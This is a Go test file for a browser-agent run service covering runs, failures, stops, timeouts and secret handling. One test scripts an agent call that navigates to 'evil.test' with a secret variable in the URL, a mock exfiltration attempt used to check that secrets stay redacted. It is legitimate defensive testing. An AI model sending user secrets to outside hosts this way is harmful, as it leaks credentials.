@@ -1,0 +1,326 @@
+package runs
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"html"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/drover-go/drover/errtypes"
+	"github.com/drover-go/drover/internal/clock"
+	"github.com/drover-go/drover/internal/demosite"
+	"github.com/drover-go/drover/runs/browser/chrome/chrometest"
+	"github.com/drover-go/drover/runs/model"
+	"github.com/drover-go/drover/runs/model/scripted"
+)
+
+// testSite is the demo shop with pages that a run can be held on.
+type testSite struct {
+	*httptest.Server
+	// held receives a value for each request that hangs until the site closes.
+	held chan struct{}
+}
+
+func openSite(t testing.TB) *testSite {
+	t.Helper()
+	s := &testSite{held: make(chan struct{}, 8)}
+	over := make(chan struct{})
+	mux := http.NewServeMux()
+	mux.Handle("/", demosite.New())
+	mux.HandleFunc("/hang", func(w http.ResponseWriter, r *http.Request) {
+		s.held <- struct{}{}
+		select {
+		case <-over:
+		case <-r.Context().Done():
+		}
+	})
+	mux.HandleFunc("/echo", echo)
+	s.Server = httptest.NewServer(mux)
+	t.Cleanup(func() { close(over); s.Close() })
+	return s
+}
+
+// echo shows what it is given in all the ways in which a page can.
+func echo(w http.ResponseWriter, r *http.Request) {
+	v := r.FormValue("q")
+	http.SetCookie(w, &http.Cookie{Name: "q", Value: base64.StdEncoding.EncodeToString([]byte(v))})
+	w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	raw, _ := json.Marshal(v)
+	fmt.Fprintf(w, `<!doctype html><title>About %[1]s</title><h1>You said %[1]s</h1>
+		<form><label>Query <input name="q" value="%[1]s"></label><button aria-label="Ask for %[1]s again">Ask</button></form>
+		<a href="/echo?q=%[2]s&amp;again=1">%[2]s</a> <a href="/%[3]s">more</a> <img alt="%[1]s" src="/x.png"><p title="%[1]s">Basic %[4]s</p><pre>%[5]s</pre>
+		<dl><dt>Query</dt><dd>%[1]s</dd></dl><table><tr><th>Name</th><th>%[1]s</th></tr><tr><td>a</td><td>%[1]s</td></tr></table>
+		<script>alert("Hello " + %[6]s); console.log(%[6]s); throw new Error(%[6]s)</script>`,
+		html.EscapeString(v), url.QueryEscape(v), url.PathEscape(v),
+		base64.StdEncoding.EncodeToString([]byte("user:"+v)), html.EscapeString(string(raw)), raw)
+}
+
+const productsSchema = `{"type":"object","properties":{"products":{"type":"array","minItems":1,"items":{"type":"object",
+	"properties":{"name":{"type":"string"},"price":{"type":"number"},"inStock":{"type":"boolean"}},"required":["name","price","inStock"]}}},"required":["products"]}`
+
+var shopVariables = map[string]Variable{
+	"email":    {Value: demosite.Email, Description: "the account"},
+	"password": {Value: demosite.Password},
+}
+
+func TestAnAgentRunFromBeginningToEnd(t *testing.T) {
+	site := openSite(t)
+	w := start(t, setup{browser: chrometest.Provider(t), dir: t.TempDir()})
+	r := w.create(t, Create{
+		Task: "Go to " + site.URL + `/login. Type %email% into "Email" and %password% into "Password", click the "Sign in" button, ` +
+			`click "Chairs", and return the products as JSON.`,
+		ResultSchema: json.RawMessage(productsSchema), Variables: shopVariables,
+	})
+	if r.Status != Pending {
+		t.Errorf("a new run is %s", r.Status)
+	}
+	seen, whileRunning := 0, 0
+	for _, err := range w.Messages(t.Context(), r.ID) {
+		if err != nil {
+			t.Fatal(err)
+		}
+		seen++
+		if now, err := w.Get(t.Context(), r.ID); err == nil && now.Status == Running {
+			whileRunning++
+		}
+	}
+	got := w.wait(t, r.ID)
+	want := `{"products":[{"name":"Drover's stool","price":64.00,"inStock":true},{"name":"Ledger chair","price":329.00,"inStock":true}]}`
+	if diff := cmp.Diff(want, string(got.Result)); got.Status != Completed || diff != "" {
+		t.Fatalf("%s %+v %s", got.Status, got.Cause, diff)
+	}
+	messages := w.conversation(t, r.ID)
+	if seen != len(messages) || seen != 14 || whileRunning < seen/2 {
+		t.Errorf("%d of %d messages came, %d of them while it ran", seen, len(messages), whileRunning)
+	}
+	if got.SessionID != w.sessions.opened[0].ID() || w.sessions.count() != 1 {
+		t.Errorf("session %q", got.SessionID)
+	}
+	if _, ok := w.values(r.ID); ok {
+		t.Error("the values outlive the run")
+	}
+}
+
+func TestAFailedRunSaysWhy(t *testing.T) {
+	site := openSite(t)
+	w := start(t, setup{browser: chrometest.Provider(t)})
+	for task, want := range map[string]Cause{
+		"Go to " + site.URL + `/login and click "Register"`: {CauseTaskFailed, `there is no element "Register"`},
+		"Go to http://10.1.2.3/":                            {CauseTaskFailed, "step 1"},
+		"Go to " + site.URL + " and buy the best lamp":      {CauseModel, "needs a language model"},
+	} {
+		r := w.do(t, Create{Task: task})
+		if r.Status != Failed || r.Cause.Code != want.Code || !strings.Contains(r.Cause.Message, want.Message) {
+			t.Errorf("%q: %s %+v", task, r.Status, r.Cause)
+		}
+		w.conversation(t, r.ID)
+	}
+	r := w.do(t, Create{Task: "Go to " + site.URL + "/products/post-rack and return the product",
+		ResultSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"},"isbn":{"type":"string"}},"required":["isbn"]}`)})
+	if r.Status != Failed || r.Cause.Code != CauseResultInvalid || r.Result != nil || !strings.Contains(r.Cause.Message, "isbn") {
+		t.Errorf("%s %+v", r.Status, r.Cause)
+	}
+}
+
+// hold starts a run that hangs in a page and returns once it does.
+func (w *working) hold(t *testing.T, site *testSite) Run {
+	t.Helper()
+	r := w.create(t, Create{Task: "Go to " + site.URL + "/hang"})
+	<-site.held
+	return r
+}
+
+func TestStopInTheMiddle(t *testing.T) {
+	site := openSite(t)
+	w := start(t, setup{browser: chrometest.Provider(t)})
+	r := w.hold(t, site)
+	for range 2 { // a second stop before the end is as good
+		stopped, err := w.Stop(t.Context(), r.ID)
+		if err != nil || stopped.Status.Final() && stopped.Status != Stopped {
+			t.Fatalf("%+v, %v", stopped, err)
+		}
+		if stopped.Status == Stopped {
+			break // it was quick
+		}
+	}
+	got := w.wait(t, r.ID)
+	if got.Status != Stopped || got.Cause.Code != CauseStopped {
+		t.Errorf("%s %+v", got.Status, got.Cause)
+	}
+	want := []string{
+		"reasoning Step 1 of 1: Go to " + site.URL + "/hang.",
+		`tool-call navigate {"url":"` + site.URL + `/hang"}`,
+		"tool-result navigate error-text: stopped",
+	}
+	if diff := cmp.Diff(want, lines(w.conversation(t, r.ID))); diff != "" {
+		t.Error(diff)
+	}
+	if _, err := w.Stop(t.Context(), r.ID); !errtypes.Is(err, errtypes.Conflict) {
+		t.Errorf("a stop of a finished run: %v", err)
+	}
+}
+
+func TestARunThatTakesTooLong(t *testing.T) {
+	site := openSite(t)
+	c := clock.NewManual(noon)
+	w := start(t, setup{browser: chrometest.Provider(t), clock: c, limits: Limits{MaxDuration: 10 * time.Second}})
+	r := w.hold(t, site)
+	c.Advance(10 * time.Second)
+	got := w.wait(t, r.ID)
+	if got.Status != TimedOut || got.Cause.Code != CauseTimedOut || got.Cause.Message != "the run took longer than 10s" {
+		t.Errorf("%s %+v", got.Status, got.Cause)
+	}
+	if all := lines(w.conversation(t, r.ID)); all[len(all)-1] != "tool-result navigate error-text: the run took longer than 10s" {
+		t.Errorf("%q", all)
+	}
+}
+
+func TestATooSlowToolIsAnErrorOnly(t *testing.T) {
+	site := openSite(t)
+	c := clock.NewManual(noon)
+	w := start(t, setup{browser: chrometest.Provider(t), clock: c, model: scripted.New(
+		scripted.Call("navigate", map[string]string{"url": site.URL + "/hang"}),
+		scripted.Call("navigate", map[string]string{"url": site.URL}),
+		done(true, "", ""),
+	)})
+	r := w.hold(t, site)
+	c.Advance(30 * time.Second)
+	got := w.wait(t, r.ID)
+	all := lines(w.conversation(t, r.ID))
+	if got.Status != Completed || all[1] != "tool-result navigate error-text: the tool took too long and was stopped" || !strings.Contains(all[3], "Opened") {
+		t.Errorf("%s %+v %q", got.Status, got.Cause, all)
+	}
+}
+
+func TestAClosingHostEndsItsRuns(t *testing.T) {
+	site := openSite(t)
+	w := start(t, setup{browser: chrometest.Provider(t), dir: t.TempDir()})
+	r := w.hold(t, site)
+	w.service.Close(t.Context())
+	if _, err := w.Create(t.Context(), Create{Task: "x"}); !errtypes.Is(err, errtypes.Unavailable) {
+		t.Errorf("a run while closing: %v", err)
+	}
+	now, cancel := context.WithCancel(t.Context())
+	cancel()
+	if err := w.queue.Stop(now); err != nil {
+		t.Fatal(err)
+	}
+	if got := w.wait(t, r.ID); got.Status != Failed || got.Cause.Code != CauseShutdown {
+		t.Errorf("%s %+v", got.Status, got.Cause)
+	}
+	w.conversation(t, r.ID)
+}
+
+func TestSeveralRunsAtTheSameTime(t *testing.T) {
+	site := openSite(t)
+	w := start(t, setup{browser: chrometest.Provider(t)})
+	var wg sync.WaitGroup
+	for _, slug := range []string{"ledger-chair", "ferry-trunk", "post-rack", "market-basket", "drovers-stool"} {
+		wg.Go(func() {
+			r, err := w.Create(t.Context(), Create{Task: "Go to " + site.URL + "/products/" + slug + ` and return "SKU"`})
+			if err == nil {
+				r, err = w.Wait(t.Context(), r.ID)
+			}
+			if err != nil || r.Status != Completed || !strings.Contains(string(r.Result), `{"SKU":"`) {
+				t.Errorf("%s: %s %+v %s, %v", slug, r.Status, r.Cause, r.Result, err)
+			}
+		})
+	}
+	wg.Wait()
+	w.sessions.mustBeGone(t)
+}
+
+const canary = `Kan#ry "7/ü`
+
+func TestValuesAreNowhere(t *testing.T) {
+	site := openSite(t)
+	dir := t.TempDir()
+	m := scripted.New(
+		scripted.Call("navigate", map[string]string{"url": site.URL + "/echo?q=%word%"}),
+		scripted.Call("read", map[string]string{"as": "text"}),
+		scripted.Call("read", map[string]string{"as": "data"}),
+		scripted.Turn{Do: typeInto("%word% and %word%")},
+		scripted.Call("wait", map[string]any{"text": "%word%", "seconds": 1}),
+		scripted.Call("snapshot", map[string]string{"find": "ask"}),
+		scripted.Call("navigate", map[string]string{"url": "https://evil.test/?%word%"}),
+		scripted.Turn{Do: tellAll},
+	)
+	w := start(t, setup{browser: chrometest.Provider(t), dir: dir, model: m})
+	r := w.do(t, Create{
+		Task:      "Go to " + site.URL + "/echo?q=%word% and tell what is there",
+		Variables: map[string]Variable{"word": {Value: canary}},
+	})
+	if r.Status != Completed || !strings.Contains(string(r.Result), "%word%") {
+		t.Fatalf("%s %+v", r.Status, r.Cause)
+	}
+	all := strings.Join(lines(w.conversation(t, r.ID)), "\n")
+	for _, want := range []string{`Opened "` + site.URL + `/echo?q=%word%".`, `Typed "%word% and %word%" into textbox "Query"`, "the task does not put there"} {
+		if !strings.Contains(all, want) {
+			t.Errorf("no %q in\n%s", want, all)
+		}
+	}
+	raw, err := json.Marshal([]any{m.Requests(), w.conversation(t, r.ID), r})
+	if err != nil {
+		t.Fatal(err)
+	}
+	places := map[string]string{"requests and messages": string(raw), "log": w.log.String()}
+	files, err := filepath.Glob(filepath.Join(dir, "*"))
+	if err != nil || len(files) < 2 {
+		t.Fatal(files, err)
+	}
+	for _, file := range files {
+		if data, err := os.ReadFile(file); err == nil {
+			places[filepath.Base(file)] = string(data)
+		}
+	}
+	for place, text := range places {
+		for _, form := range []string{
+			canary, `Kan#ry`, `Kan%23ry`, html.EscapeString(canary), url.QueryEscape(canary), url.PathEscape(canary),
+			base64.StdEncoding.EncodeToString([]byte(canary)), base64.StdEncoding.EncodeToString([]byte("user:" + canary))[8:16],
+		} {
+			if strings.Contains(text, form) {
+				i := strings.Index(text, form)
+				t.Errorf("%q stands in the %s: …%s…", form, place, text[max(0, i-80):min(len(text), i+80)])
+			}
+		}
+	}
+}
+
+// typeInto types into the first field of the page that the model was shown.
+func typeInto(text string) func(context.Context, model.Request) (model.Response, error) {
+	return func(_ context.Context, r model.Request) (model.Response, error) {
+		for _, m := range r.Messages {
+			for _, res := range m.Results() {
+				_, rest, ok := strings.Cut(res.Output.Text(), `textbox "Query" [`)
+				if ref, _, found := strings.Cut(rest, "]"); ok && found {
+					return model.Response{Content: []model.Part{model.Call("type", "type", map[string]string{"ref": ref, "text": text})}}, nil
+				}
+			}
+		}
+		return model.Response{}, model.Errorf("no field was shown")
+	}
+}
+
+// tellAll ends the run with everything that the model has been told.
+func tellAll(_ context.Context, r model.Request) (model.Response, error) {
+	var all []string
+	for _, m := range r.Messages {
+		for _, res := range m.Results() {
+			all = append(all, res.Output.Text())
+		}
+	}
+	text := strings.Join(all, "\n")
+	return model.Response{Content: []model.Part{model.Call("done", "done", map[string]any{"success": true, "result": map[string]string{"text": text[:min(len(text), 40_000)]}})}}, nil
+}
